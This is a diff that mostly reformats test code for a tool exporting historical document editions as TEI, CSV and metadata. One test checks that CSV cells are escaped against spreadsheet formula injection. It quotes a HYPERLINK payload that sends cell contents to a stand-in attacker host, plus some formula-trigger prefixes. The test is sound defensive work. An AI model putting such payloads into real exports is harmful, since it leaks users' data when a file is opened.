@@ -39,7 +39,10 @@ describe('export (the edition as data for repositories)', function () {
     it('finds every TEI file editio writes valid: corpus.xml and the published sources', async () => {
       const { files } = await findXmlFiles([path.join(out, 'corpus.xml'), path.join(out, 'tei'), path.join(letters, 'corpus.xml')]);
       const { sources } = await loadSources(files);
-      const verdicts = await validate(sources.map((s) => parse(s).doc!), { schema: teiAllSchema });
+      const verdicts = await validate(
+        sources.map((s) => parse(s).doc!),
+        { schema: teiAllSchema },
+      );
       expect(verdicts).to.have.length(7);
       for (const v of verdicts) expect(v.messages, v.doc.source.name).to.deep.equal([]);
     });
@@ -61,7 +64,9 @@ describe('export (the edition as data for repositories)', function () {
     expect(rows[2]!.place).to.equal('Pyongyang');
     const csv = read(path.join(out, 'metadata', 'documents.csv')).split('\r\n');
     expect(csv[0]).to.equal('id,title,date,date_edtf,language,place,persons,places,organisations,url');
-    expect(csv[3]).to.match(/^1967-07-06-telegram-pyongyang-bucharest,"Telegram from Pyongyang to Bucharest, No\. 76\.247",1967-07-06,1967-07-06,en,Pyongyang,/);
+    expect(csv[3]).to.match(
+      /^1967-07-06-telegram-pyongyang-bucharest,"Telegram from Pyongyang to Bucharest, No\. 76\.247",1967-07-06,1967-07-06,en,Pyongyang,/,
+    );
   });
 
   it('gives a date with a range or a doubt in EDTF, in the tables, Dublin Core and the DTS record', () => {
@@ -82,13 +87,38 @@ describe('export (the edition as data for repositories)', function () {
   });
 
   it('quotes CSV fields as RFC 4180 says', () => {
-    const row = { id: 'a', title: 'He said "no", twice', date: '', date_edtf: '', language: 'en', place: '', persons: ['x', 'y'], places: [], organisations: [], url: '' };
+    const row = {
+      id: 'a',
+      title: 'He said "no", twice',
+      date: '',
+      date_edtf: '',
+      language: 'en',
+      place: '',
+      persons: ['x', 'y'],
+      places: [],
+      organisations: [],
+      url: '',
+    };
     expect(toCsv([row]).split('\r\n')[1]).to.equal('a,"He said ""no"", twice",,,en,,x; y,,,');
   });
 
   it('neutralises CSV fields a spreadsheet would run as formulas, and only those', () => {
-    const row = (title: string, persons: string[] = []) => ({ id: 'a', title, date: '', date_edtf: '', language: 'en', place: '', persons, places: [], organisations: [], url: '' });
-    const titleCell = (title: string, persons?: string[]): string => toCsv([row(title, persons)]).split('\r\n')[1]!.split(',')[1]!;
+    const row = (title: string, persons: string[] = []) => ({
+      id: 'a',
+      title,
+      date: '',
+      date_edtf: '',
+      language: 'en',
+      place: '',
+      persons,
+      places: [],
+      organisations: [],
+      url: '',
+    });
+    const titleCell = (title: string, persons?: string[]): string =>
+      toCsv([row(title, persons)])
+        .split('\r\n')[1]!
+        .split(',')[1]!;
     expect(titleCell('=HYPERLINK("http://evil.example/?"&A1;"Click")')).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1;""Click"")"`);
     for (const formula of ['+1+1', '-2+3', '@SUM(A1)', '\t=1', ' =1', '\uff1d1']) expect(titleCell(formula), JSON.stringify(formula)).to.match(/^"?'/);
     for (const plain of ['Decision of 21 September 1966', '1966-09-21', 'a = b', 'MiG-21']) expect(titleCell(plain)).to.equal(plain);
